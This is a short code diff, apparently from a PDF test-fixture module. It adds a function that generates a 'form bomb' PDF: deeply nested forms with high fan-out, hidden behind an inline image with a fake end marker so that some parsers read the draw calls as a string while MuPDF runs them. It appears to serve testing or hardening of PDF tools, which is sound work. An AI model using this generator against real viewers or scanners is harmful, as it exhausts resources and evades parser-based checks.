@@ -260,6 +260,18 @@ def form_bomb(depth: int = 9, fan_out: int = 10, call: bytes = b"/X1 Do ") -> by
     return doc.tobytes(garbage=1, deflate=True)
 
 
+def inline_image_hiding_bomb(depth: int = 9, fan_out: int = 10, image_filter: str = "") -> bytes:
+    """The form bomb's `Do`s placed after an inline image whose data holds a fake `EI` and an
+    open parenthesis: a reader that ends the image at the first `EI` then reads the `Do`s as
+    one string; MuPDF measures the data (20 × 1 RGB pixels) and runs them."""
+    doc = plain_pdf()
+    below = _nested_forms(doc, depth - 1, fan_out)
+    data = b"\nEI (" * 12  # 60 bytes: 20 pixels of 3 bytes
+    image = b"q BI /W 20 /H 1 /CS /RGB /BPC 8" + image_filter.encode() + b" ID " + data + b" EI Q\n"
+    _draw(doc, "X1", below, image + b"q " + b"/X1 Do " * fan_out + b" Q (closing)")
+    return doc.tobytes(garbage=1, deflate=True)
+
+
 def _nested_forms(doc: pymupdf.Document, depth: int, fan_out: int, call: bytes = b"/X1 Do ") -> int:
     below = _form(doc, b"0 0 1 rg 0 0 2 2 re f", None)
     for _ in range(depth):
